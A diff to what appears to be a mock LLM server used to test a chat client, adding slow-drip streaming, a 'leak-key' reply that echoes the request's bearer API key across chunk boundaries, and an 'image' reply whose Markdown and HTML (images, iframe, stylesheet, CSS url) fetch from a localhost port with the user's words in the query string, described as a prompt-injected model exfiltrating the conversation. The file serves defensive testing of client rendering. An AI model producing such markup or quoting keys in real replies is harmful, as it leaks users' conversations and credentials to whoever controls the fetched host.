@@ -8,6 +8,12 @@ Behaviours (the request's ``model`` field):
 - ``echo-turns``: streams back the user messages it received, oldest first: ``TURNS: first | second``
   (what the model was told the conversation is; ``echo-turns:slow=S`` spreads it over ~S seconds).
 - ``slow:S`` / ``echo-system:slow=S``: about 20 chunks spread over ~S seconds.
+- ``drip:S`` (``drip:S:n=N``): one token every S seconds, N tokens (default 20): the whole reply is slow
+  though no single wait is long.
+- ``leak-key``: a reply that quotes the request's API key (its ``Authorization`` bearer), cut so that the
+  key straddles chunk boundaries.
+- ``image:PORT``: a reply whose Markdown/HTML would load images, an iframe and a stylesheet from
+  ``http://127.0.0.1:PORT`` (a prompt-injected model exfiltrating the conversation).
 - ``fault:<status>`` (401, 403, 404, 500, 503, ...): that HTTP error with a JSON body;
   ``fault:429:retry=7`` adds ``Retry-After: 7``.
 - ``fault:timeout`` (or ``fault:timeout=S``): accepts the request and sends nothing for S s (default 120)
@@ -35,6 +41,7 @@ import sys
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote
 
 _NAME_LINE = re.compile(r"^\s*[-*]?\s*Name:\s*(.+?)\s*$", re.MULTILINE)
 
@@ -138,6 +145,14 @@ class _Handler(BaseHTTPRequestHandler):
         if parts[0] == "slow":
             seconds = float(parts[1]) if len(parts) > 1 else 1.0
             pieces = [f"word{i} " for i in range(20)]
+        elif parts[0] == "drip":
+            count = int(options.get("n", 20))
+            seconds = float(parts[1]) * count if len(parts) > 1 else float(count)
+            pieces = [f"drip{i} " for i in range(count)]
+        elif parts[0] == "leak-key":
+            seconds, pieces = 0.0, _leak(self.headers.get("Authorization") or "")
+        elif parts[0] == "image":
+            seconds, pieces = 0.0, _split(_exfiltrate(int(parts[1]), body), 6)
         elif parts[0] in ("echo-system", "echo-turns"):
             seconds = float(options.get("slow", 0))
             pieces = _split(_echo(body) if parts[0] == "echo-system" else _turns(body), 20 if seconds else 4)
@@ -222,6 +237,27 @@ def _turns(body: dict) -> str:
         return str(content or "")
 
     return "TURNS: " + " | ".join(text(m.get("content")) for m in body.get("messages", []) if m.get("role") == "user")
+
+
+def _leak(authorization: str) -> list[str]:
+    """The key in three pieces, each cut mid-key, between ordinary words."""
+    key = authorization.removeprefix("Bearer ").strip()
+    third = max(1, len(key) // 3)
+    return ["Sure. Your key is ", key[:third], key[third:2 * third], key[2 * third:] + " and that's all.",
+            f" Again: {key}."]
+
+
+def _exfiltrate(port: int, body: dict) -> str:
+    """Markup that makes a browser fetch from ``port``: what a prompt injection would ask a model to write."""
+    base = f"http://127.0.0.1:{port}"
+    said = "".join(str(m.get("content")) for m in body.get("messages", []) if m.get("role") == "user")[:40]
+    data = quote(said)
+    return (f"Here is your chart ![chart]({base}/md.png?d={data}) and a logo "
+            f'<img src="{base}/html.png?d={data}"> plus a frame <iframe src="{base}/frame?d={data}"></iframe> '
+            f'and <video poster="{base}/poster.png"></video> <svg><image href="{base}/svg.png"/></svg> '
+            f'<link rel="stylesheet" href="{base}/style.css"><style>@import url("{base}/import.css");</style>'
+            f'<div style="background:url({base}/bg.png)">styled</div>\n\n'
+            f"A reference image ![ref][logo] too.\n\n[logo]: {base}/ref.png\n")
 
 
 def _split(text: str, n: int) -> list[str]:
